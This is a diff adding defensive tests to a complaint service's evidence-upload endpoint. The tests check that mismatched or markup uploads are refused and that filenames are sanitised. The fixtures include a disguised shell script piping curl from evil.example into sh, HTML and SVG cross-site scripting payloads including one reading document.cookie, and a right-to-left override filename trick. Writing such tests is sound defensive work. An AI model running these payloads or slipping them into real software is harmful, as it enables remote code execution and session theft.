@@ -157,3 +157,51 @@ describe('evidence', () => {
     expect((await hub.request('GET', `/v1/complaints/${complaintId}/evidence/${item.id}/content`, { token: partner })).status).toBe(403);
   });
 });
+
+describe('evidence whose name and content disagree', () => {
+  let hub: TestHub;
+  let db: TestDatabase;
+  let staff: string;
+
+  beforeAll(async () => {
+    hub = await TestHub.start();
+    db = TestDatabase.open();
+    staff = await hub.token('staff', 'somchai');
+  });
+
+  afterAll(async () => {
+    await hub.stop();
+    await db.close();
+  });
+
+  async function uploadAs(filename: string, bytes: Buffer): Promise<{ status: number; body: any }> {
+    const complaintId = (await hub.request('POST', '/v1/complaints', { token: staff, json: aComplaint() })).body.id as string;
+    const response = await fetch(`${hub.baseUrl}/v1/complaints/${complaintId}/evidence?kind=other&filename=${encodeURIComponent(filename)}`, {
+      method: 'POST', headers: { authorization: `Bearer ${staff}`, 'content-type': 'application/octet-stream' }, body: bytes,
+    });
+    return { status: response.status, body: JSON.parse(await response.text()) };
+  }
+
+  it('refuses a shell script named report.pdf, and HTML or SVG under any name, and stores nothing', async () => {
+    const before = Number((await db.query('SELECT count(*) AS n FROM evidence_item'))[0].n);
+    const script = await uploadAs('report.pdf', Buffer.from('#!/bin/sh\ncurl http://evil.example/x | sh\n'));
+    expect(script).toMatchObject({ status: 415, body: { code: 'EVIDENCE_TYPE_MISMATCH', detected: 'text/plain', declared: 'application/pdf' } });
+    for (const [name, markup] of [
+      ['chat.txt', '<!DOCTYPE html><html><body><script>fetch("/v1/partners")</script></body></html>'],
+      ['screenshot.png', '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><rect/></svg>'],
+      ['notes', 'see <script>alert(document.cookie)</script>'],
+    ] as const) {
+      const response = await uploadAs(name, Buffer.from(markup));
+      expect({ name, status: response.status, code: response.body.code }).toEqual({ name, status: 415, code: 'EVIDENCE_TYPE_NOT_ALLOWED' });
+    }
+    expect(Number((await db.query('SELECT count(*) AS n FROM evidence_item'))[0].n)).toBe(before);
+  });
+
+  it('stores names without direction overrides, invisible characters or dot-only names', async () => {
+    const rlo = await uploadAs('slip\u202Egpj.pdf', evidenceFiles.pdf());
+    expect(rlo).toMatchObject({ status: 201, body: { filename: 'slipgpj.pdf' } });
+    expect((await uploadAs('..', evidenceFiles.jpeg())).body.filename).toBe('evidence');
+    expect((await uploadAs('.', evidenceFiles.jpeg())).body.filename).toBe('evidence');
+    expect((await uploadAs('\u200bแชท\u2066.txt', evidenceFiles.chatText())).body.filename).toBe('แชท.txt');
+  });
+});
